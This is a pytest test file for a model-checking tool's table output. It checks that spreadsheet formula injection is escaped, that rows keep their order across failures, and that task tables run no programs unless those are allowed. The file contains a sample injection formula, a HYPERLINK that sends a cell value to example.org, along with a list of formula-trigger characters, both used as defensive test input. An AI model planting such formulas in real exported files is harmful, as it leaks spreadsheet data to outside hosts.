"""CSV files that others open: no formulas for spreadsheets, rows in order; programs."""

from __future__ import annotations

import csv
import os
import random
import sys
import threading
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pandas.testing import assert_frame_equal

from ltlpipe import InputError, LtlpipeError, LtlpipeWarning, results, solve
from ltlpipe.batch.table import to_frame
from ltlpipe.batch.table_files import (
    CsvWriter,
    guarded,
    guarded_frame,
    open_table,
    plain,
)
from ltlpipe.batch.task_sources import find_tasks
from tests.cli.command_line import RING, program

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"]
EVIL = '=HYPERLINK("http://example.org?"&A1)'


def cells_of(path):
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


@given(st.text(st.sampled_from([*STARTS, "'", "a", "1"]), max_size=6))
def test_marks_come_off_again(text):
    """What is written is no formula, and what is read is what was meant."""
    assert not guarded(text).startswith(tuple(STARTS))
    assert plain(guarded(text)) == text


@pytest.mark.parametrize("start", STARTS)
def test_no_cell_begins_a_formula(start, tmp_path):
    """Of any column; numbers stay numbers."""
    path = tmp_path / "r.csv"
    text = f"{start}1+1"
    row = {"system": text, "formula": text, "verdict": "holds", "seconds": 0.5}
    with open_table(path) as table:
        table.write(row)
    (_, cells) = cells_of(path)
    assert not any(cell.startswith(tuple(STARTS)) for cell in cells)
    assert "'" + text in cells
    assert_frame_equal(results(path), to_frame([row]))


def test_a_formula_as_a_title():
    """Values become titles when a table is pivoted."""
    frame = pd.DataFrame({EVIL: [1, -2], "b": ["@x", None]})
    written = guarded_frame(frame)
    assert written.columns.tolist() == ["'" + EVIL, "b"]
    assert written["'" + EVIL].tolist() == [1, -2]
    assert written["b"].fillna("").tolist() == ["'@x", ""]


def test_tables_of_other_commands(tmp_path):
    """results and analyze write CSV, too."""
    (tmp_path / "ring.aut").write_text(RING)
    store = tmp_path / "run.sqlite"
    solve([((tmp_path / "ring.aut",), EVIL)], store=store)
    out = tmp_path / "out.csv"
    assert program("results", store, "-o", out).code == 0
    header, cells = cells_of(out)
    assert cells[header.index("formula")] == "'" + EVIL
    assert results(out)["formula"].tolist() == [EVIL]


# --- order ------------------------------------------------------------------


def rows_of(n):
    return [{"task": k, "system": f"s{k}", "verdict": "holds"} for k in range(n)]


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_rows_are_in_the_order_of_tasks(suffix, tmp_path):
    """Whatever the order in which they came: the same bytes."""
    rows = rows_of(30)
    contents = set()
    for seed in range(5):
        path = tmp_path / f"{seed}{suffix}"
        random.Random(seed).shuffle(rows)
        with open_table(path) as table:
            for row in rows:
                table.write(row)
        assert results(path)["system"].tolist() == [f"s{k}" for k in range(30)]
        contents.add(path.read_bytes())
    assert len(contents) == 1
    assert len(list(tmp_path.iterdir())) == 5


def test_what_is_left_of_a_run_that_was_killed(tmp_path):
    """Whole rows beside the old ones, in the order in which they came."""
    (tmp_path / "r.csv").write_text("system\nold\n")
    table = CsvWriter(tmp_path / "r.csv")
    for row in reversed(rows_of(3)):
        table.write(row)
    assert results(tmp_path / "r.csv")["system"].tolist() == ["old"]
    assert pd.read_csv(table.place)["system"].tolist() == ["s2", "s1", "s0"]
    table.close()
    assert results(tmp_path / "r.csv")["system"].tolist() == ["s0", "s1", "s2"]
    assert [p.name for p in tmp_path.iterdir()] == ["r.csv"]


def test_links_and_permissions_stay(tmp_path):
    target, link = tmp_path / "target.csv", tmp_path / "link.csv"
    target.touch(mode=0o640)
    link.symlink_to(target)
    with open_table(link) as table:
        for row in reversed(rows_of(2)):
            table.write(row)
    assert link.is_symlink()
    assert target.stat().st_mode & 0o777 == 0o640
    assert results(target)["system"].tolist() == ["s0", "s1"]


def test_a_folder_that_takes_no_other_file(tmp_path, monkeypatch):
    """The file is written in place."""
    (tmp_path / "r.csv").touch()
    opened = Path.open

    def refuse(path, mode, *rest):
        if "x" in mode:
            raise PermissionError(13, "Permission denied")
        return opened(path, mode, *rest)

    monkeypatch.setattr(Path, "open", refuse)
    with open_table(tmp_path / "r.csv") as table:
        for row in reversed(rows_of(2)):
            table.write(row)
    assert results(tmp_path / "r.csv")["system"].tolist() == ["s0", "s1"]
    assert [p.name for p in tmp_path.iterdir()] == ["r.csv"]
    with pytest.raises(LtlpipeError, match="cannot be written: Permission denied"):
        open_table(tmp_path / "new.csv")


def test_a_file_that_cannot_be_replaced(tmp_path, monkeypatch):
    """It is as it was, and the message says where the rows are."""

    def refuse(*_):
        raise PermissionError(13, "Permission denied")

    (tmp_path / "r.csv").write_text("system\nold\n")
    table = CsvWriter(tmp_path / "r.csv")
    for row in rows_of(2):
        table.write(row)
    monkeypatch.setattr(Path, "replace", refuse)
    with pytest.raises(LtlpipeError, match="holds the first 2 rows") as caught:
        table.close()
    assert str(table.place) in str(caught.value)
    assert results(tmp_path / "r.csv")["system"].tolist() == ["old"]
    assert pd.read_csv(table.place)["system"].tolist() == ["s0", "s1"]


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_after_an_error(suffix, tmp_path):
    """The file is as it was; the rows so far are beside it, and that is said."""
    path = tmp_path / f"r{suffix}"
    to_frame(rows_of(6)).to_csv(tmp_path / "r.csv", index=False)
    to_frame(rows_of(6)).to_parquet(tmp_path / "r.parquet", index=False)

    def failing(n_rows):
        with open_table(path) as table:
            for row in rows_of(n_rows):
                table.write(row)
            raise RuntimeError

    with pytest.raises(RuntimeError):
        failing(0)
    assert len(list(tmp_path.iterdir())) == 2
    with (
        pytest.raises(RuntimeError),
        pytest.warns(LtlpipeWarning, match="not replaced; .* holds the first 2 rows"),
    ):
        failing(2)
    assert len(results(path)) == 6
    (beside,) = tmp_path.glob(".r.*.partial")
    assert len(results(beside.rename(path))) == 2


def test_a_pipe(tmp_path):
    """Nothing can be taken back: rows wait for those before them."""
    pipe = tmp_path / "r.csv"
    os.mkfifo(pipe)
    read = []
    reader = threading.Thread(target=lambda: read.append(pipe.read_text()))
    reader.start()
    with open_table(pipe) as table:
        for number in (2, 0, 4, 1):
            table.write(rows_of(5)[number])
    reader.join()
    systems = [line.split(",")[0] for line in read[0].splitlines()]
    assert systems == ["system", "s0", "s1", "s2", "s4"]


def test_a_pipe_that_nobody_reads_any_more(tmp_path):
    """It keeps no rows, and is not said to."""
    pipe = tmp_path / "r.csv"
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    table = open_table(pipe)
    table.write(rows_of(1)[0])
    os.close(reader)
    with pytest.raises(LtlpipeError, match=r"Broken pipe$"):
        table.write(rows_of(2)[1])
    table.close()


# --- programs ---------------------------------------------------------------


@pytest.fixture
def table(tmp_path):
    """A task table whose translator leaves a mark, and what it leaves."""
    (tmp_path / "ring.aut").write_text(RING)
    mark = tmp_path / "it has run"
    script = tmp_path / "translate"
    script.write_text(
        f"#!{sys.executable}\nimport sys\nopen({str(mark)!r}, 'w').close()\n"
        "import spot\nprint(spot.translate(sys.argv[1]).to_str('hoa'))\n"
    )
    script.chmod(0o755)
    path = tmp_path / "tasks.csv"
    path.write_text(f"system,formula,translator\nring.aut,GF a,{script} %f\n")
    return path, mark, script


def test_a_table_runs_nothing(table, tmp_path):
    """Not at the command line, and not from Python; in no kind of table."""
    path, mark, script = table
    out = tmp_path / "r.csv"
    outcome = program("solve", path, "--out", out)
    assert outcome.code == 2
    assert "tasks.csv:2: translator" in outcome.complaint
    assert f"--allow-translators={str(script)!r}" in outcome.complaint.replace("| ", "")
    frame = pd.read_csv(path)
    frame.to_parquet(path.with_suffix(".parquet"))
    frame["system"] = str(tmp_path / "ring.aut")
    for given_tasks in (path, path.with_suffix(".parquet"), frame):
        with pytest.raises(InputError, match="a table runs no program"):
            solve(given_tasks)
    for other in (script.name, "sh", ""):
        with pytest.raises(InputError, match="a table runs no program"):
            find_tasks([path], [other])
    assert not mark.exists()


def test_a_program_that_is_allowed(table, tmp_path):
    path, mark, script = table
    flags = ["--allow-translators", "other", "--allow-translators", script]
    outcome = program("solve", path, "--out", tmp_path / "r.csv", *flags)
    assert outcome.code == 0, outcome.err
    assert mark.exists()


def test_the_built_in_translation_is_no_program(table):
    path, _, _ = table
    path.write_text("system,formula,translator\nring.aut,GF a,spot\n")
    (task,) = find_tasks([path])
    assert task.options == {"translator": None}


def test_a_command_that_cannot_be_read(table):
    path, _, _ = table
    path.write_text('system,formula,translator\nring.aut,GF a,"sh \'"\n')
    with pytest.raises(InputError, match="No closing quotation"):
        find_tasks([path], ["sh"])
